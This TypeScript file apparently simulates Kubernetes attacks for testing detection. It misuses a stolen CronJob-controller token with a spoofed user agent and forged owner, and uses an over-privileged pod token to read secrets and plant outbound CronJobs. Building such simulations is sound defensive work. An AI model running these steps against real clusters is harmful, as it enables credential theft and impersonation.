import { pkiFolder } from '../../cluster/parts.ts';
import { nodePerson } from '../../cluster/people.ts';
import { clientOf } from '../../cluster/request.ts';
import type { Stage } from '../stage.ts';
import type { Story } from '../stories.ts';
import { cronJob, FETCHED, job, nextTick, shell, TO_OUTSIDE, uidOf, WORK } from './objects.ts';

/** Where the thief is: another address of this machine than all others come from. */
const ELSEWHERE = '127.0.0.66';
const jobsOf = (namespace: string): string => `/apis/batch/v1/namespaces/${namespace}/jobs`;

/**
 * Whoever may ask for tokens in kube-system can be the CronJob controller. First with the agent of the tool at hand, then
 * with the controller's own and an owner that is real: only the address is another.
 */
export const stolenControllerToken: Story = {
  name: 'stolen-controller-token',
  play: async (stage) => {
    await stage.kubectl('ci', 'apply -f -', cronJob('basket-check', 'shop', WORK));
    await nextTick();
    const token = (await stage.kubectl('admin', 'create token cronjob-controller -n kube-system')).trim();
    const uid = await uidOf(stage, 'cronjob/basket-check', 'shop');
    const write = async (namespace: string, body: object, userAgent: string): Promise<void> => {
      const headers = { authorization: `Bearer ${token}` };
      const path = jobsOf(namespace);
      await stage.ask('anonymous', { method: 'POST', path, body, userAgent, headers, from: ELSEWHERE });
    };
    await write('payments', job('ledger-sync', 'payments', shell(TO_OUTSIDE)), 'curl/8.16.0');
    const agent = `kube-controller-manager/${stage.cluster.kubernetes} (linux/amd64) kubernetes/unknown/system:serviceaccount:kube-system:cronjob-controller`;
    const past = Math.floor(Date.now() / 60_000) - 30;
    const owner = { name: 'basket-check', uid, blocks: true };
    await write('shop', job(`basket-check-${past}`, 'shop', shell(FETCHED), owner), agent);
    await nextTick();
  },
  clear: async (stage) => {
    await stage.kubectl('admin', 'delete cronjob basket-check -n shop');
    await stage.kubectl('admin', 'delete job ledger-sync -n payments');
  },
};

/** A pod of the shop whose account may do more than it needs writes a CronJob in another namespace with its own token. */
export const tokenOfAPod: Story = {
  name: 'token-of-a-pod',
  play: async (stage) => {
    await stage.kubectl('admin', 'create serviceaccount release-bot -n shop');
    await stage.kubectl(
      'admin',
      'create rolebinding release-bot -n payments --clusterrole=edit --serviceaccount=shop:release-bot',
    );
    await stage.kubectl('ci', 'apply -f -', {
      apiVersion: 'v1',
      kind: 'Pod',
      metadata: { name: 'release-bot', namespace: 'shop' },
      spec: {
        serviceAccountName: 'release-bot',
        containers: [{ name: 'main', image: 'registry.example.com/shop/release-bot:2.4.1', args: ['serve'] }],
      },
    });
    await stage.kubectl('developer', 'wait pod/release-bot -n shop --for=condition=Ready --timeout=40s');
    const uid = await uidOf(stage, 'pod/release-bot', 'shop');
    const node = (await stage.kubectl('developer', 'get pod release-bot -n shop -o jsonpath={.spec.nodeName}')).trim();
    const headers = { authorization: `Bearer ${await tokenOn(stage, node, uid)}` };
    const ask = { userAgent: 'python-requests/2.32.3', headers };
    await stage.ask('anonymous', { ...ask, path: '/api/v1/namespaces/payments/secrets' });
    const body = cronJob('ledger-archive', 'payments', shell(TO_OUTSIDE));
    const path = '/apis/batch/v1/namespaces/payments/cronjobs';
    await stage.ask('anonymous', { ...ask, method: 'POST', path, body });
    await nextTick();
  },
  clear: async (stage) => {
    await stage.kubectl('admin', 'delete cronjob ledger-archive -n payments');
    await stage.kubectl('admin', 'delete pod release-bot -n shop --wait=false');
    await stage.kubectl('admin', 'delete rolebinding release-bot -n payments');
    await stage.kubectl('admin', 'delete serviceaccount release-bot -n shop');
  },
};

/** The token that a node asks for on behalf of a pod, as its kubelet does: bound to the pod, and known to it alone. */
const tokenOn = async (stage: Stage, node: string, uid: string): Promise<string> => {
  const { server, folder, kubernetes } = stage.cluster;
  const agent = `kubelet/${kubernetes} (linux/amd64) kubernetes/unknown`;
  const client = clientOf(server, pkiFolder(folder), node, nodePerson(node), agent);
  try {
    const answer = await client.ask({
      method: 'POST',
      path: '/api/v1/namespaces/shop/serviceaccounts/release-bot/token',
      body: {
        apiVersion: 'authentication.k8s.io/v1',
        kind: 'TokenRequest',
        spec: {
          expirationSeconds: 3607,
          boundObjectRef: { apiVersion: 'v1', kind: 'Pod', name: 'release-bot', uid },
        },
      },
    });
    const token: unknown = answer.status === 201 ? JSON.parse(answer.text).status?.token : undefined;
    if (typeof token !== 'string') throw new TypeError(`no token for the pod: ${answer.status} ${answer.text}`);
    return token;
  } finally {
    client.close();
  }
};
